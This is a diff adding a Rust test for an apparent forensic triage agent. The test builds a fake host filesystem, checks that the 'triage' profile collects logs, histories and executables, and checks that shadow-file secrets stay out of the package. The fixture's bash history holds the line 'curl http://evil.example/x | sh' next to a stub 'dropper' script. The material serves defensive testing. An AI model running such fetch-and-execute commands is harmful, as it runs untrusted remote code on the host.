@@ -248,3 +248,80 @@ async fn progress_reports_are_checked_and_only_for_the_agents_own_running_action
         .unwrap();
     assert!(!trail["value"].as_array().unwrap().is_empty());
 }
+
+/// A small host below a fixture root: what `triage` adds to `standard`.
+fn fixture_host(root: &std::path::Path) {
+    let file = |path: &str, content: &[u8]| {
+        let path = root.join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, content).unwrap();
+    };
+    file("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
+    file("etc/group", b"root:x:0:\nalice:x:1000:\n");
+    file("etc/shadow", b"alice:$6$SECRET-SHADOW-MARKER$:19000:0:99999:7:::\n");
+    file("etc/ssh/sshd_config", b"PermitRootLogin no\n");
+    file("var/log/nginx/access.log", b"10.0.0.9 - - [07/Dec/2026] \"GET /wp-login.php\" 404\n");
+    file("var/log/apt/history.log", b"Start-Date: 2026-12-06\nInstall: netcat-openbsd\n");
+    file("home/alice/.bash_history", b"curl http://evil.example/x | sh\n");
+    file("home/alice/.ssh/known_hosts", b"evil.example ssh-ed25519 AAAA\n");
+    file("tmp/.hidden/dropper", b"#!/bin/sh\necho pwned\n");
+    file("usr/bin/tool", b"#!/bin/sh\n");
+    use std::os::unix::fs::PermissionsExt;
+    for exe in ["tmp/.hidden/dropper", "usr/bin/tool"] {
+        std::fs::set_permissions(root.join(exe), std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_triage_profile_runs_every_collector_and_keeps_secrets_out() {
+    let server = TestServer::start().await;
+    let root = server.dir.path().join("host-root");
+    fixture_host(&root);
+    let state_dir = server.dir.path().join("agent-triage");
+    let agent = server
+        .start_agent_with("triage-host", state_dir, Some(server.enroll_token().await), |config| {
+            config.collect_root = root.clone();
+        })
+        .await;
+    let created: Value =
+        collect_with(&server, &agent.identity.machine_id, json!({"Comment": "triage", "Profile": "triage"}))
+            .await
+            .json()
+            .await
+            .unwrap();
+    let id = created["id"].as_str().unwrap().to_owned();
+    let done = server.wait_final(&id).await;
+    assert_eq!(done.status, ActionStatus::Succeeded, "{:?}", done.troubleshoot_info);
+    let progress = done.progress.unwrap();
+    assert_eq!((progress.collectors_done, progress.collectors_total), (17, 17));
+
+    let (bytes, manifest) = package_of(&server, &id).await;
+    assert_eq!(manifest["profile"], "triage");
+    let collectors = manifest["collectors"].as_array().unwrap();
+    let ran: Vec<&str> = collectors.iter().map(|c| c["name"].as_str().unwrap()).collect();
+    assert_eq!(ran, casefile_proto::profile::COLLECTORS);
+    for c in collectors.iter().skip(10) {
+        assert_ne!(c["status"], "failed", "{c}");
+    }
+    let paths: Vec<&str> = manifest["items"].as_array().unwrap().iter().map(|i| i["path"].as_str().unwrap()).collect();
+    for expected in [
+        "bodyfile.txt",
+        "findings.csv",
+        "executables.csv",
+        "nginx/access.log",
+        "apt/history.log",
+        "sshd_config",
+        "known_hosts",
+    ] {
+        assert!(paths.iter().any(|p| p.ends_with(expected)), "{expected} missing from {paths:?}");
+    }
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
+    let mut everything = Vec::new();
+    for i in 0..zip.len() {
+        zip.by_index(i).unwrap().read_to_end(&mut everything).unwrap();
+    }
+    let text = String::from_utf8_lossy(&everything);
+    assert!(!text.contains("SECRET-SHADOW-MARKER"), "a secret's content is in the package");
+    assert!(text.contains("/tmp/.hidden/dropper"), "the hidden dropper is in the timeline");
+    assert!(text.contains("wp-login.php") && text.contains("evil.example/x"), "logs and histories are in it");
+}
